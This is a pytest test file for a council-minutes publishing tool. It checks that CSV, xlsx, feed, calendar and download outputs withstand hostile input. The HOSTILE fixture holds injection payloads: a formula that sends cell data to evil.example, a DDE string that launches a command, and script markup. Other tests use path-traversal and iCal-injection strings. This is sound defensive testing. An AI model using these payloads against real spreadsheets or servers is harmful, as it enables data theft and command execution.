"""What readers take away: spreadsheets that run nothing, exact files, bulk files, feeds and calendars, of hostile papers too."""

import asyncio
import csv
import gzip
import hashlib
import io
import json
import shutil
import sqlite3
import subprocess
import zipfile
from contextlib import closing
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from datasette.app import Datasette
from icalendar import Calendar
from lxml import etree

from minutebook.models.bulk import bulk_edition
from minutebook.models.export import export
from minutebook.models.load import load_facts, load_meeting
from minutebook.models.publish import LONGEST_CELL, publish
from minutebook.models.site import editions, site_config
from minutebook.models.spreadsheet import CUT, LONGEST, harmless
from minutebook.models.tables import TABLES
from minutebook.pipeline import main

ATOM = {"a": "http://www.w3.org/2005/Atom"}
HOSTILE = {
    "markup": "<script>alert(1)</script> ]]> & <b>be resolved</b>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+44 20 be rung",
    "minus": "-2+3 be done",
    "tab": "\t=1+1",
    "line": "\r\n=1+1",
    "wide": "＝1+1",
    "quotes": 'That "this", be\r\n"that"',
    "turned": "That \u202eevil\u202c be \u200fnoted",
    "nul": "That nothing\x00 be \x07 noted",
    "million": "That " + "x" * 1_000_000,
}
BROKEN = b"That half \xed\xa0\x80 a character be \xff noted"  # a lone surrogate, and no UTF-8 at all


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, make):
    """A published site whose resolutions say the worst, one of them, behind the program's back, in broken UTF-8."""
    from minutebook.models.load import load_authority
    from minutebook.models.store import open_store

    folder = tmp_path_factory.mktemp("hostile")
    store = f"sqlite:///{folder}/store.db"
    with open_store(store) as session:
        load_authority(session, make.AUTHORITY)
        load_meeting(session, make.meeting(documents=[make.document("worst")]))
        decisions = [make.resolution(text) for text in [*HOSTILE.values(), "That the broken be."]]
        load_facts(session, make.sha("worst"), make.facts("worst", resolutions=decisions))
    site = folder / "site"
    publish(store, site)
    broken = "UPDATE resolutions SET text = CAST(? AS TEXT) WHERE text = 'That the broken be.'"
    with closing(sqlite3.connect(site / "minutebook.db")) as connection, connection:
        assert connection.execute(broken, [BROKEN]).rowcount == 1
    with bulk_edition(site / "minutebook.db", site):
        pass
    return site


@pytest.fixture
def site(stored, tmp_path):
    """A published site of ordinary papers."""
    publish(stored, tmp_path / "site")
    return tmp_path / "site"


def asker(site):
    """Ask a Datasette that is set up exactly as the served one."""
    datasette = Datasette([], config_dir=site)

    def get(path, **headers):
        return asyncio.run(datasette.client.get(path, headers=headers))

    return get


def exact(site):
    """The texts of the resolutions as they are in the published file."""
    with closing(sqlite3.connect(site / "minutebook.db")) as connection:
        connection.text_factory = lambda found: found.decode("utf-8", "replace")
        return [text for (text,) in connection.execute("SELECT text FROM resolutions ORDER BY id")]


def texts(table):
    """The column `text` of a CSV."""
    csv.field_size_limit(2_000_000)
    return [row["text"] for row in csv.DictReader(io.StringIO(table, newline=""))]


def assert_harmless(cells):
    """No cell begins like a formula or is too long or unfit for a spreadsheet, and the words are still there."""
    assert [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))] == []
    assert max(len(cell) for cell in cells) < 32_767
    assert "That nothing be  noted" in cells
    assert f"'{HOSTILE['formula']}" in cells
    assert HOSTILE["markup"] in cells
    assert sum(cell.endswith(CUT) for cell in cells) == 1


# --- hostile papers -----------------------------------------------------------------------------------------------


def test_the_hostile_papers_are_published_as_they_are(hostile):
    """The file holds every word, the longest cut to what can be served."""
    found = exact(hostile)
    assert {text[:LONGEST_CELL] for text in HOSTILE.values()} < {*found}
    assert len(found) == len(HOSTILE) + 1


def test_plain_csv_is_exact(hostile, tmp_path):
    """Streamed, exported and in bulk: the very text, no mark, no apostrophe."""
    plain = asker(hostile)("/minutebook/resolutions.csv?_stream=on&_size=max&_sort=id").content.decode()
    out = io.StringIO(newline="")
    export(hostile, "resolutions", "csv", None, None, None, out)
    bulk = gzip.decompress((editions(hostile)[-1] / "resolutions.csv.gz").read_bytes()).decode()
    assert exact(hostile) == texts(plain) == texts(out.getvalue()) == texts(bulk)


def test_csv_for_spreadsheets_runs_nothing(hostile):
    """Streamed, exported and in bulk: marked as UTF-8, every cell harmless, as a file to be saved."""
    answer = asker(hostile)("/minutebook/resolutions.csv?_stream=on&_size=max&_excel=on&_sort=id")
    out = io.StringIO(newline="")
    export(hostile, "resolutions", "excel", None, None, None, out)
    with zipfile.ZipFile(editions(hostile)[-1] / "resolutions-excel.zip") as bulk:
        packed = bulk.read("resolutions.csv").decode()
    streamed = answer.content.decode()
    assert {"\ufeff"} == {table[0] for table in (streamed, out.getvalue(), packed)}
    assert texts(streamed[1:]) == texts(out.getvalue()[1:]) == texts(packed[1:])
    assert_harmless(texts(packed[1:]))
    assert "text/csv; charset=utf-8" == answer.headers["content-type"]
    assert 'attachment; filename="resolutions.csv"' == answer.headers["content-disposition"]


def test_csv_for_spreadsheets_of_what_is_none(site):
    """An error stays what it is, and so does an empty answer but for its mark."""
    get = asker(site)
    assert (404, "text/html; charset=utf-8") == (
        (missing := get("/minutebook/nothing.csv?_excel=on")).status_code,
        missing.headers["content-type"],
    )
    empty = get("/minutebook/resolutions.csv?_search=zzzqqq&_excel=on").text
    assert empty == "\ufeff" + get("/minutebook/resolutions.csv?_search=zzzqqq").text


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1", "'=1"), ("-1", "-1"), ("+1.5", "+1.5"), ("-1+1", "'-1+1"), (-7, -7), (0.5, 0.5), (None, None),
        (9007199254740991, "'9007199254740991"), ("x" * 40_000, "x" * LONGEST + CUT), ("\x00=1", "'=1"),
    ],
)  # fmt: skip
def test_a_harmless_cell(cell, shown):
    """Numbers stay numbers, text that begins like a formula or a number that would be rounded gets an apostrophe."""
    assert shown == harmless(cell)


def test_json_lines_are_exact(hostile):
    """A line is a row, whatever stands in it."""
    out = io.StringIO()
    export(hostile, "resolutions", "jsonl", None, None, None, out)
    bulk = gzip.decompress((editions(hostile)[-1] / "resolutions.jsonl.gz").read_bytes()).decode()
    assert exact(hostile) == [json.loads(line)["text"] for line in out.getvalue().splitlines()]
    assert bulk == out.getvalue()


def workbook(path):
    """The cells of a workbook's first sheet, by type, read as XML: `inlineStr` is text, `n` a number, `f` a formula."""
    with zipfile.ZipFile(path) as book:
        sheet = etree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    cells = sheet.iterfind(".//{*}c")
    return [(cell.get("t", "n"), "".join(cell.itertext()), cell.find("{*}f") is not None) for cell in cells]


def test_a_workbook_holds_text_as_text(hostile, tmp_path):
    """The command writes a file in which nothing is a formula or a link, and long numbers are not rounded."""
    command = ["--data", str(hostile.parent), "export", "resolutions", "--format", "xlsx", "-o", f"{tmp_path}/r.xlsx"]
    assert 0 == CliRunner().invoke(main, command).exit_code
    cells = workbook(tmp_path / "r.xlsx")
    assert [cell for cell in cells if cell[2]] == []
    shown = {text for kind, text, _ in cells if kind == "inlineStr"}
    assert {HOSTILE[name] for name in ("markup", "formula", "command", "plus", "minus", "wide", "turned")} < shown
    with closing(sqlite3.connect(hostile / "minutebook.db")) as connection:
        assert {str(number) for (number,) in connection.execute("SELECT id FROM resolutions")} < shown
    assert max(map(len, shown)) < 32_767


@pytest.mark.skipif(not shutil.which("localc"), reason="LibreOffice Calc is not installed")
def test_a_spreadsheet_program_opens_them_rightly(hostile, tmp_path):
    """LibreOffice, as Excel would, shows the words of both forms as text: none was computed, none is garbled."""
    paths = {"excel": tmp_path / "e.csv", "xlsx": tmp_path / "x.xlsx"}
    for shape, path in paths.items():
        command = ["--data", str(hostile.parent), "export", "resolutions", "--format", shape, "-o", str(path)]
        assert 0 == CliRunner().invoke(main, command).exit_code
        convert = ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to"]
        form = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1"
        read = ["--infilter=CSV:44,34,76,1"] if shape == "excel" else []  # in its window it goes by the mark
        done = subprocess.run(
            [*convert, form, *read, "--outdir", tmp_path / shape, path], capture_output=True, check=False
        )
        (made,) = (tmp_path / shape).glob("*.csv")
        shown = texts(made.read_text("utf-8-sig"))
        kept = [text.lstrip("'") for text in shown]
        wanted = {HOSTILE[name] for name in ("markup", "formula", "command", "plus", "minus", "turned", "wide")}
        assert wanted <= {*kept}, done.stderr


# --- bulk files ---------------------------------------------------------------------------------------------------


def test_bulk_files_are_counted_and_described(site):
    """Every table has its three files; the manifest tells rows, sizes and hashes, the package types, keys and meanings."""
    (edition,) = editions(site)
    manifest = json.loads((edition / "manifest.json").read_text())
    package = json.loads((edition / "datapackage.json").read_text())
    for name, said in manifest["files"].items():
        content = (edition / name).read_bytes()
        assert {"bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()} == said
    assert [table.name for table in TABLES] == [*manifest["rows"]] == [each["name"] for each in package["resources"]]
    for resource in package["resources"]:
        rows = list(csv.reader(io.StringIO(gzip.decompress((edition / resource["path"]).read_bytes()).decode())))
        described = site_config()["databases"]["minutebook"]["tables"][resource["name"]]
        fields = {field["name"]: field["description"] for field in resource["schema"]["fields"]}
        assert rows[0] == [*fields]
        assert fields.items() <= described["columns"].items()
        assert manifest["rows"][resource["name"]] == len(rows) - 1
        assert manifest["files"][resource["path"]]["sha256"] == resource["hash"].removeprefix("sha256:")
    dictionary = list(csv.DictReader(io.StringIO((edition / "dictionary.csv").read_text("utf-8"))))
    assert len(dictionary) == sum(len(table.rows.selected_columns) for table in TABLES)
    assert {"meaning": "", "type": ""}.items() & {item for row in dictionary for item in row.items()} == set()


def test_the_same_store_gives_the_same_files(stored, site):
    """Published again, every file of the new edition has the fingerprint it had."""
    publish(stored, site)
    first, second = (json.loads((edition / "manifest.json").read_text())["files"] for edition in editions(site))
    assert {name: said["sha256"] for name, said in first.items()} == {
        name: said["sha256"] for name, said in second.items()
    }


def test_downloads_are_offered_and_served(site):
    """The page names every table in words and leads to its files, which come with a name and may be kept for good."""
    get = asker(site)
    shown = get("/downloads").text
    (edition,) = editions(site)
    for name, table in site_config()["databases"]["minutebook"]["tables"].items():
        assert f'<th scope="row">{table["title"]}' in shown
        assert f'href="/downloads/{edition.name}/{name}-excel.zip"' in shown
    latest = get("/downloads/latest/resolutions.csv.gz")
    assert (302, f"/downloads/{edition.name}/resolutions.csv.gz") == (latest.status_code, latest.headers["location"])
    served = get(latest.headers["location"])
    assert (edition / "resolutions.csv.gz").read_bytes() == served.content
    assert 'attachment; filename="resolutions.csv.gz"' == served.headers["content-disposition"]
    assert "public, max-age=31536000, immutable" == served.headers["cache-control"]


@pytest.mark.parametrize(
    "path",
    ["{}/minutebook.db", "{}/../minutebook.db", "{}/%2e%2e%2fminutebook.db", "{}/none.gz", "20200101T000000.000Z/manifest.json",
     "../manifest.json", "{}/", "./manifest.json", "...//manifest.json"],
)  # fmt: skip
def test_nothing_but_the_files_is_served(site, path):
    """No other name, no other folder."""
    answer = asker(site)(f"/downloads/{path.format(editions(site)[-1].name)}")
    assert answer.status_code in (302, 404)
    assert "manifest" not in answer.headers.get("location", "") or "latest" in answer.headers["location"]
    assert b"SQLite format" not in answer.content


def test_downloads_before_the_first_publishing(site):
    """A site of an earlier version has none yet, and says so."""
    shutil.rmtree(site / "bulk")
    get = asker(site)
    assert "Nothing is there yet" in get("/downloads").text
    assert 404 == get("/downloads/latest/resolutions.csv.gz").status_code


def test_two_editions_are_kept(stored, site):
    """A download that began before a publishing can be gone on with after it; what is older goes, and no rest is left."""
    (site / "bulk" / ".new").mkdir()
    seen = [editions(site)[-1]]
    for _ in range(2):
        publish(stored, site)
        seen.append(editions(site)[-1])
    assert seen[1:] == editions(site) == sorted((site / "bulk").iterdir())
    served = asker(site)(f"/downloads/{seen[1].name}/resolutions.csv.gz")
    assert 200 == served.status_code


# --- feeds --------------------------------------------------------------------------------------------------------


def feed(answer):
    """The entries of a feed, as dictionaries."""
    assert (200, "application/atom+xml; charset=utf-8") == (answer.status_code, answer.headers["content-type"])
    found = etree.fromstring(answer.content)
    for entry in [found, *found.iterfind("a:entry", ATOM)]:
        assert [1, 1, 1] == [len(entry.findall(f"a:{name}", ATOM)) for name in ("id", "title", "updated")]
        assert datetime.fromisoformat(entry.findtext("a:updated", namespaces=ATOM)).tzinfo
        assert all(link.get("href").startswith(("http://", "https://")) for link in entry.iterfind("a:link", ATOM))
    return [
        {name: entry.findtext(f"a:{name}", namespaces=ATOM) for name in ("id", "title", "updated", "content")}
        for entry in found.iterfind("a:entry", ATOM)
    ]


def follow(get, path):
    """The answer after redirects."""
    answer = get(path)
    return follow(get, answer.headers["location"]) if answer.status_code == 302 else answer


def test_a_search_is_a_feed_of_new_matches(session, stored, site, make):
    """Newest found first; an entry keeps its id when the site is published again, and leads to the row."""
    get = asker(site)
    before = feed(follow(get, "/minutebook/resolutions.atom?_search=mill"))
    assert ["That permission be granted for the café at 2 Mill Lane."] == [entry["title"] for entry in before]
    load_meeting(
        session, make.meeting("9", "2020-01-01", documents=[make.document("m", fetched_at="2026-12-01T00:00:00+00:00")])
    )
    load_facts(session, make.sha("m"), make.facts("m", resolutions=[make.resolution("That the mill be sold.")]))
    publish(stored, site)
    after = feed(follow(get, "/minutebook/resolutions.atom?_search=mill"))
    assert "That the mill be sold." == after[0]["title"]
    assert before == after[1:]
    assert 200 == get(before[0]["id"].removeprefix("http://localhost")).status_code
    assert "Committee: Planning Committee" in before[0]["content"]
    assert "Meeting: 12 February 2026" in before[0]["content"]


@pytest.mark.parametrize("name", [*site_config()["databases"]["minutebook"]["queries"]])
def test_every_ready_question_is_a_feed(site, name):
    """Each, left open, with as many entries as rows; where rows have no day there is none, and it is said."""
    get = asker(site)
    found = get(f"/minutebook/{name}.json").json()
    answer = follow(get, f"/minutebook/{name}.atom")
    if {"found_on", "meeting_date", "fetched_at", "since", "decided", "published"} & {*found["columns"]}:
        assert len(found["rows"]) == len(feed(answer))
    else:
        assert 404 == answer.status_code


def test_a_feed_of_hostile_papers_is_well_formed(hostile):
    """Markup is text, what no XML may hold is left out, and every decision is an entry."""
    entries = feed(follow(asker(hostile), "/minutebook/resolutions.atom"))
    assert len(HOSTILE) + 1 == len({entry["id"] for entry in entries})
    assert any(entry["content"].startswith(HOSTILE["markup"]) for entry in entries)
    assert max(len(entry["content"]) for entry in entries) < 6_000


def test_what_has_no_day_has_no_feed(site):
    """A table without dates says so."""
    assert 404 == asker(site)("/minutebook/people.atom").status_code


# --- calendar -----------------------------------------------------------------------------------------------------


@pytest.fixture
def calendar(session, stored, tmp_path, make):
    """Ask for the calendar of a site with a meeting in winter, one in summer, one at no known time, one cancelled."""
    year = datetime.now(UTC).year
    for number, day, changes in (
        ("1", f"{year}-01-15", {"time": "18:30"}),
        ("2", f"{year}-07-15", {"time": "6.30 pm"}),
        ("3", f"{year}-07-16", {"time": "after the Council", "venue": "A\r\nBEGIN:VALARM; B\x00, C"}),
        ("0", "2001-01-15", {"committee": "Harbour Board"}),
        (
            "4",
            f"{year}-07-17",
            {"status": "cancelled", "committee": "X"},
        ),
    ):
        load_meeting(session, make.meeting(f"cal-{number}", day, **changes))
    publish(stored, tmp_path / "site")
    get = asker(tmp_path / "site")

    def events(query):
        answer = get(f"/calendar.ics{query}")
        assert (200, "text/calendar; charset=utf-8") == (answer.status_code, answer.headers["content-type"])
        return {event.start.strftime("%m-%d"): event for event in Calendar.from_ical(answer.content).events}

    return events


def test_meetings_are_at_their_hour_in_summer_and_winter(calendar):
    """Half past six in Britain is half past five by universal time in July; a meeting without a time takes the day."""
    found = calendar("")
    winter, summer = found["01-15"].start, found["07-15"].start
    assert ("18:30", "18:30") == (f"{winter:%H:%M}", f"{summer:%H:%M}")
    assert ("18:30", "17:30") == (f"{winter.astimezone(UTC):%H:%M}", f"{summer.astimezone(UTC):%H:%M}")
    assert not isinstance(found["07-16"].start, datetime)
    assert "CANCELLED" == found["07-17"].status


def test_a_calendar_cannot_be_broken_into(calendar):
    """Line breaks and control characters of a venue stay within its line."""
    assert "BEGIN:VALARM; B, C" in calendar("")["07-16"].location
    assert [] == calendar("")["07-16"].subcomponents


@pytest.mark.parametrize(
    ("query", "days"), [("?committee=X", ["07-17"]), ("?authority=northmere&committee=X", ["07-17"])]
)
def test_a_calendar_of_one_committee(calendar, query, days):
    """By name; its events have ids that stay."""
    assert days == [*calendar(query)]
    assert calendar(query)["07-17"]["uid"] == calendar("")["07-17"]["uid"]


def test_a_calendar_without_meetings(calendar):
    """A committee that met last years ago has an empty calendar."""
    assert {} == calendar("?committee=Harbour+Board")


def test_a_calendar_of_nobody(site):
    """A misspelt authority is no empty calendar."""
    assert 404 == asker(site)("/calendar.ics?authority=narnia").status_code


# --- what templates are given -------------------------------------------------------------------------------------


def test_a_list_offers_exactly_what_it_shows(site, tmp_path):
    """The links of a list carry its filters and order, not its place in the pages; without dates there is no feed."""
    folder = Path(site) / "templates"
    (folder / "table.html").write_text("{% for name, link in takeaway.items() %}{{ name }} {{ link }}\n{% endfor %}")
    get = asker(site)
    shown = get("/minutebook/resolutions?_search=mill&outcome=carried&_sort=id&_size=1&_facet=year").text
    links = dict(line.replace("&amp;", "&").split(" ") for line in shown.splitlines())
    asked = "?_search=mill&outcome=carried&_sort=id"
    whole = f"/minutebook/resolutions.csv{asked}&_stream=on&_size=max&_dl=on"
    assert {
        "excel": f"{whole}&_excel=on",
        "csv": whole,
        "json": f"/minutebook/resolutions.json{asked}&_shape=objects",
        "atom": f"/minutebook/resolutions.atom{asked}",
    } == links
    assert all(get(link).status_code == 200 for link in links.values())
    assert "atom" not in get("/minutebook/people").text
